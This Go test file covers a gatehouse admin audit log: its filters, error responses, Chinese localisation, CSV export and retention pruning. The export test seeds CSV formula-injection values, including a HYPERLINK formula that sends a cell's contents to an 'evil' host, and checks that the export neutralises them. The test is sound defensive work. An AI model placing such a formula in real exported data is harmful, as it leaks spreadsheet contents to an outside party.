package web_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"gatehouse/models"
	"gatehouse/web"
	"gatehouse/web/webtest"
)

// TestAdminAuditFilters: the audit log's filters of issue 16, on both databases; bad times and cursors
// are field errors (422), never a 500.
func TestAdminAuditFilters(t *testing.T) {
	t.Parallel()
	webtest.ForEach(t, func(t *testing.T, app *webtest.App) {
		fxUser(t, app, "root", true)
		admin := fxSignedIn(t, app, "root")
		ctx := context.Background()
		for _, e := range []models.Event{
			{Action: models.ActionSigninRefused, Target: "t1", IP: "192.0.2.1", Authenticator: "acme", Outcome: "not_bound"},
			{Action: models.ActionSigninRefused, Target: "t2", IP: "192.0.2.2", Detail: map[string]any{"authenticator": "acme", "outcome": "member_left"}},
			{Action: models.ActionBindingCreate, Target: "t3", Detail: map[string]any{"authenticator": "other"}},
		} {
			if err := app.Store.Audit(ctx, e); err != nil {
				t.Fatal(err)
			}
		}
		tests := []struct {
			name, query string
			status      int
			targets     string
		}{
			{"authenticator", "authenticator=acme", http.StatusOK, "t2 t1"},
			{"outcome", "outcome=member_left", http.StatusOK, "t2"},
			{"ip", "ip=192.0.2.1", http.StatusOK, "t1"},
			{"action prefix and authenticator", "action=signin.&authenticator=acme&outcome=not_bound", http.StatusOK, "t1"},
			{"from a date long ago", "from=2000-01-01&action=binding.", http.StatusOK, "t3"},
			{"to a date long ago", "to=2000-01-01&action=binding.", http.StatusOK, ""},
			{"datetime-local", "from=2000-01-01T10:00&authenticator=other", http.StatusOK, "t3"},
			{"bad from", "from=yesterday", http.StatusUnprocessableEntity, ""},
			{"bad cursor", "before=-3", http.StatusUnprocessableEntity, ""},
		}
		for _, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				r := admin.Get("/admin/audit?" + tt.query)
				if r.StatusCode != tt.status {
					t.Fatalf("status %d, want %d", r.StatusCode, tt.status)
				}
				var got []string
				r.Find("[data-testid=audit-row]").Each(func(_ int, s *goquery.Selection) {
					got = append(got, strings.TrimSpace(s.Find("td").Eq(3).Text()))
				})
				if strings.Join(got, " ") != tt.targets {
					t.Fatalf("targets %q, want %q", strings.Join(got, " "), tt.targets)
				}
				if tt.status != http.StatusOK && r.Find(".field-error").Length() == 0 {
					t.Fatal("no field error shown")
				}
			})
		}
		t.Run("filters are kept in the form and the export link", func(t *testing.T) {
			r := admin.Get("/admin/audit?authenticator=acme&ip=192.0.2.1")
			if v, _ := r.Find("[data-testid=audit-authenticator]").Attr("value"); v != "acme" {
				t.Fatalf("authenticator input %q", v)
			}
			if href, _ := r.Find("[data-testid=audit-export]").Attr("href"); href != "/admin/audit/export?authenticator=acme&ip=192.0.2.1" {
				t.Fatalf("export link %q", href)
			}
		})
		t.Run("in Chinese", func(t *testing.T) {
			c := fxSignedIn(t, app, "root")
			c.Post("/lang", fxForm("lang", "zh", "redirect", "/admin"))
			r := c.Get("/admin/audit?from=bad")
			if !strings.Contains(r.Body, "导出 CSV") || !strings.Contains(r.Body, "请输入日期") {
				t.Fatal("the audit page is not in Chinese")
			}
		})
	})
}

// TestSecurityAuditExportNeutralisesFormulas: a value an anonymous visitor chose (a username typed at
// sign-in) is exported so that a spreadsheet shows it as text instead of running it as a formula.
func TestSecurityAuditExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	webtest.ForEach(t, func(t *testing.T, app *webtest.App) {
		fxUser(t, app, "root", true)
		admin := fxSignedIn(t, app, "root")
		for _, target := range []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "+1+1", "-2", "@SUM(1)", "plain"} {
			if err := app.Store.Audit(context.Background(), models.Event{Action: "test.csv", Target: target, Outcome: "x,\"y\""}); err != nil {
				t.Fatal(err)
			}
		}
		r := admin.Get("/admin/audit/export?action=test.csv")
		if r.StatusCode != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") ||
			!strings.Contains(r.Header.Get("Content-Disposition"), "attachment") {
			t.Fatalf("status %d, headers %v", r.StatusCode, r.Header)
		}
		if !strings.HasPrefix(r.Body, "\uFEFF") {
			t.Fatal("no BOM")
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\uFEFF"))).ReadAll()
		if err != nil || len(rows) != 6 {
			t.Fatalf("%d rows, %v:\n%s", len(rows), err, r.Body)
		}
		want := []string{"plain", "'@SUM(1)", "'-2", "'+1+1", `'=HYPERLINK("http://evil/?"&A1,"x")`}
		for i, row := range rows[1:] {
			if row[4] != want[i] || row[6] != `x,"y"` {
				t.Errorf("row %d: target %q outcome %q, want %q", i+1, row[4], row[6], want[i])
			}
		}
		if anon := app.Client().Get("/admin/audit/export"); anon.StatusCode != http.StatusSeeOther {
			t.Fatalf("anonymous export: %d", anon.StatusCode)
		}
	})
}

// TestAuditRetention: the retention job deletes the events older than GATEHOUSE_AUDIT_RETENTION and keeps
// the rest; 0 keeps everything.
func TestAuditRetention(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name      string
		retention time.Duration
		deleted   int64
	}{{"default 180 days", web.DefaultAuditRetention, 1}, {"0 keeps forever", 0, 0}} {
		t.Run(tt.name, func(t *testing.T) {
			webtest.ForEach(t, func(t *testing.T, app *webtest.App) {
				for _, ago := range []time.Duration{181 * 24 * time.Hour, 179 * 24 * time.Hour} {
					e := models.AuditEvent{At: time.Now().UTC().Add(-ago), Action: "test.old", Detail: "{}"}
					if err := app.Store.DB().Create(&e).Error; err != nil {
						t.Fatal(err)
					}
				}
				if n := app.Gatehouse.PruneAuditOnce(context.Background()); n != tt.deleted {
					t.Fatalf("deleted %d, want %d", n, tt.deleted)
				}
			}, func(c *web.Config, _ *web.Options) { c.AuditRetention = tt.retention })
		})
	}
}
